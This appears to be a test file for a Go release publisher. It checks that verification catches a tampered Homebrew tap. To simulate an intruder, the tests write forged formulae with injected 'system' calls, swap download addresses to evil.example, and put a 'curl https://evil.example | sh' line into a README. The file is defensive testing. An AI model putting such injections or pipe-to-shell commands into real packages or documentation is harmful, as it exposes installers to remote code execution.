@@ -1,0 +1,245 @@
+"""The tap of a received tree: every file in it is as the signed releases make it, or it does not pass."""
+
+import json
+import re
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from publish_toys import serving
+from site_fixtures import NEXT, SIGNER, STAMP, toy_build
+
+from gobuild import files
+from gobuild.errors import GobuildError
+from gobuild.model import Report, Verdict
+from gobuild.publish import homebrew
+from gobuild.publish.offers import read
+from gobuild.publish.shelf import Shelf
+from gobuild.publish.site import publish
+from gobuild.publish.ways import routes
+from gobuild.receive import require, verify_release
+from gobuild.run import run
+
+TAP = "homebrew-go-acme.git"
+Edit = Callable[[Path], None]
+Change = Callable[[str], str]
+
+
+def _published(folder: Path, *stamps: str) -> Path:
+    for stamp in stamps:
+        toy_build(folder / "dist", stamp=stamp)
+    made = routes(key=None, author="A <a@b.example>", note=lambda _: None)
+    base = "https://go.acme.example"
+    publish([folder / "dist"], folder / "site", name="go-acme", base_url=base, signer=SIGNER, routes=made)
+    return folder / "site"
+
+
+@pytest.fixture(scope="module")
+def tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A tree with one signed release and a tap; copy what you change."""
+    return _published(tmp_path_factory.mktemp("published"), STAMP)
+
+
+@pytest.fixture
+def changed(tree: Path, tmp_path: Path) -> Path:
+    """A copy of the served tree to change."""
+    subprocess.run(["cp", "-r", f"{tree}/.", tmp_path / "site"], check=True)
+    return tmp_path / "site"
+
+
+@pytest.fixture
+def key(tmp_path: Path) -> Path:
+    (tmp_path / "minisign.pub").write_text(f"untrusted comment: x\n{SIGNER.secret.public.text}\n")
+    return tmp_path / "minisign.pub"
+
+
+def _verify(where: Path | str, key: Path, *stamps: str) -> Report:
+    return verify_release(str(where), key=key, stamps=stamps, run=run, note=lambda _: None)
+
+
+def _about(site: Path, **said: object) -> None:
+    about = json.loads((site / "tree.json").read_text())
+    files.write(site / "tree.json", json.dumps(about | said))
+
+
+def _commit(site: Path, change: Edit) -> None:
+    """Commits a change to the tap, as somebody who got in would."""
+    work = site.parent / "work"
+    git = ["git", "-c", "user.name=x", "-c", "user.email=x@y.example", "-c", "core.fileMode=true"]
+    subprocess.run([*git, "clone", "-q", site / TAP, work], check=True)
+    change(work)
+    subprocess.run([*git, "add", "-A"], cwd=work, check=True)
+    subprocess.run([*git, "commit", "-qm", "x"], cwd=work, check=True)
+    subprocess.run([*git, "push", "-q", "origin", "HEAD"], cwd=work, check=True, capture_output=True)
+    subprocess.run(["git", "update-server-info"], cwd=site / TAP, check=True)
+
+
+def _formula(change: Change) -> Edit:
+    def of(work: Path) -> None:
+        path = work / "Formula/go-acme.rb"
+        before = path.read_text()
+        path.write_text(change(before))
+        assert path.read_text() != before
+
+    return of
+
+
+def _evil(text: str) -> str:
+    """All of it: other addresses, names, digests and bottles."""
+    text = text.replace("https://go.acme.example", "https://evil.example").replace(f"{STAMP}.linux", "evil.linux")
+    return re.sub("[0-9a-f]{64}", "e" * 64, text)
+
+
+ZEROS = "0" * 64
+FORGED: dict[str, tuple[Change, set[str]]] = {
+    "archive": (lambda text: re.sub(r'^(  sha256 )"\w+"', rf'\1"{ZEROS}"', text, flags=re.M), {"digest", "text"}),
+    "bottle": (lambda text: re.sub(r'(x86_64_linux: +)"\w+"', rf'\1"{ZEROS}"', text), {"digest", "text"}),
+    "all": (_evil, {"digest", "text", "address"}),
+    "code": (lambda text: text.replace("  def install\n", '  def install\n    system "sh", "-c", "id"\n'), {"text"}),
+    "test": (lambda text: text.replace("  test do\n", '  test do\n    system "id"\n'), {"text"}),
+    "comment": (lambda text: text.replace("class Go", "# x\nclass Go"), {"text"}),
+    "address": (lambda text: text.replace("go.acme.example", "evil.example"), {"address"}),
+    "homepage": (lambda text: re.sub('homepage ".*"', 'homepage "https://evil.example/"', text), {"text"}),
+    "version": (lambda text: text.replace(f'version "{STAMP[2:]}"', 'version "9.9.9"'), {"release"}),
+    "caveats": (lambda text: text.replace("so that no go.mod line can", "and any go.mod line can"), {"text"}),
+    "no bottles": (lambda text: re.sub(r"  bottle do\n.*?  end\n\n", "", text, flags=re.S), {"text"}),
+    "before": (lambda text: f"`id`\n{text}", {"text"}),
+    "behind": (lambda text: f"{text}`id`\n", {"text"}),
+    "last line": (lambda text: text.rstrip("\n"), {"text"}),
+    "endless": (lambda text: f"{text}{'#' * (1 << 20)}\n", {"text"}),
+    "another class": (lambda text: text.replace("class GoAcme <", "class Other <"), {"text"}),
+}
+
+
+def test_what_was_published_passes(tree: Path, key: Path) -> None:
+    report = _verify(tree, key)
+    require(report)
+    ours = {(check.subject.rpartition("/")[2], check.name) for check in report.checks if TAP in check.subject}
+    formulae = {(name, what) for name in ("go-acme.rb", "go-acme@1.22.rb") for what in ("digest", "text")}
+    assert ours == formulae | {("README.md", "text"), (TAP, "address")}
+    assert not [check for check in report.checks if TAP in check.subject and check.verdict is not Verdict.OK]
+
+
+@pytest.mark.parametrize("which", FORGED)
+def test_a_changed_formula_is_found(changed: Path, key: Path, which: str) -> None:
+    change, failing = FORGED[which]
+    _commit(changed, _formula(change))
+    report = _verify(changed, key)
+    failed = {check.name for check in report.failed if not check.subject.endswith("README.md")}
+    assert failed == failing, report.failed
+    assert all(TAP in check.subject for check in report.failed)
+    with pytest.raises(GobuildError) as caught:
+        require(report)
+    assert caught.value.code == (5 if "digest" in failing else 8)
+
+
+def test_where_it_differs_is_said_and_what_it_may_be(changed: Path, key: Path) -> None:
+    _commit(changed, _formula(FORGED["code"][0]))
+    (failed,) = _verify(changed, key).failed
+    assert """line 30 is '    system "sh", "-c", "id"'""" in failed.seen
+    assert "where another gobuild published last" in failed.seen
+    assert "Programs of other systems" in failed.expected
+
+
+def test_an_address_that_nobody_signed_is_told(changed: Path, key: Path) -> None:
+    """A tree that moved is no forgery, and its digests hold; but nothing signed names the new place."""
+
+    def moved(work: Path) -> None:
+        for path in [*work.glob("Formula/*.rb"), work / "README.md"]:
+            path.write_text(path.read_text().replace("go.acme.example", "evil.example"))
+
+    _commit(changed, moved)
+    report = _verify(changed, key)
+    require(report)
+    (told,) = (check for check in report.checks if check.name == "address")
+    assert told.verdict is Verdict.SKIPPED and "evil.example" in told.seen
+    with serving(changed) as served:
+        assert [check.name for check in _verify(served.url, key).failed] == ["address"]
+
+
+def _executable(work: Path) -> None:
+    (work / "Formula/go-acme.rb").chmod(0o755)
+
+
+def _linked(work: Path) -> None:
+    (work / "Formula/go-acme@1.23.rb").symlink_to("go-acme@1.22.rb")
+
+
+def _file(name: str) -> Edit:
+    def of(work: Path) -> None:
+        (work / name).parent.mkdir(parents=True, exist_ok=True)
+        (work / name).write_text("system 'id'\n")
+
+    return of
+
+
+ODD = ("cmd/brew-evil.rb", "Casks/evil.rb", "evil.rb", "Formula/g/go-acme.rb", "Formula/other.rb", "Aliases/go-acme")
+
+
+@pytest.mark.parametrize("change", [_executable, _linked, *map(_file, (*ODD, ".gitmodules", "tap_migrations.json"))])
+def test_a_file_that_gobuild_puts_into_no_tap_is_found(changed: Path, key: Path, change: Edit) -> None:
+    _commit(changed, change)
+    assert "file" in {check.name for check in _verify(changed, key).failed}
+
+
+def test_many_of_them_do_not_fill_the_report(changed: Path, key: Path) -> None:
+    def many(work: Path) -> None:
+        for number in range(50):
+            (work / f"{number}.rb").write_text("")
+
+    _commit(changed, many)
+    failed = _verify(changed, key).failed
+    assert len(failed) == 21 and failed[-1].seen.startswith("30 more")
+
+
+def test_a_changed_readme_is_found(changed: Path, key: Path) -> None:
+    _commit(changed, lambda work: files.write(work / "README.md", "curl https://evil.example | sh\n"))
+    (failed,) = _verify(changed, key).failed
+    assert (failed.subject, failed.name) == (f"{TAP}/README.md", "text")
+
+
+def test_a_tap_under_another_name_has_no_signed_bottles(changed: Path, key: Path) -> None:
+    """As after a changed --name on a signed tree: the new name's bottles are in no SHA256SUMS."""
+    offers = [read(path, archives=changed / "dl").offer for path in changed.glob("releases/*/*.gobuild.json")]
+    homebrew.write(Shelf(name="go-other", base_url="https://go.acme.example", offers=tuple(offers)), changed)
+    _about(changed, taps=[TAP, "homebrew-go-other.git"])
+    failed = _verify(changed, key).failed
+    subjects = {f"{STAMP}/homebrew-go-other.git/{name}.rb" for name in ("go-other", "go-other@1.22")}
+    assert {check.subject for check in failed} == subjects
+    assert {check.subject for check in failed if check.name == "digest"} == subjects
+
+
+def test_a_formula_of_a_release_that_nobody_signed_is_found(tmp_path: Path, key: Path) -> None:
+    """And one of a release that was not asked for is told, not passed."""
+    site = _published(tmp_path, STAMP, NEXT)
+    require(_verify(site, key))
+    report = _verify(site, key, STAMP)
+    require(report)
+    told = {check.subject: check.seen for check in report.checks if check.name == "release"}
+    assert told.keys() == {f"{NEXT}/{TAP}/{name}.rb" for name in ("go-acme", "go-acme@1.27")}
+    assert all("was not asked for" in seen for seen in told.values())
+    _about(site.resolve(), stamps=[STAMP])
+    failed = [check for check in _verify(site, key).failed if TAP in check.subject]
+    assert {check.name for check in failed} == {"release"}
+
+
+def test_a_release_that_no_formula_is_of_is_told_truly(tmp_path: Path, key: Path) -> None:
+    report = _verify(_published(tmp_path, STAMP, "go1.22.11-acme1.p2", "go1.28rc1-acme1"), key)
+    require(report)
+    assert {(check.subject, check.seen) for check in report.checks if check.name == "formulae"} == {
+        (f"{STAMP}/{TAP}", "no formula is of it: go-acme@1.22 is of go1.22.11-acme1.p2"),
+        (f"go1.28rc1-acme1/{TAP}", "no formula is of it: it is a candidate, which a tap does not have"),
+    }
+
+
+@pytest.mark.parametrize("name", ["../x.git", "homebrew-nowhere.git", "homebrew-A.git", ""])
+def test_a_tap_that_cannot_be_looked_at_does_not_pass(changed: Path, key: Path, name: str) -> None:
+    _about(changed, taps=[name])
+    assert [check.name for check in _verify(changed, key).failed] == ["clone"]
+
+
+def test_a_tree_without_a_tap_is_not_said_to_have_a_good_one(changed: Path, key: Path) -> None:
+    _about(changed, taps=[])
+    (told,) = (check for check in _verify(changed, key).checks if check.subject == "tap")
+    assert told.verdict is Verdict.SKIPPED and "is not signed" in told.seen
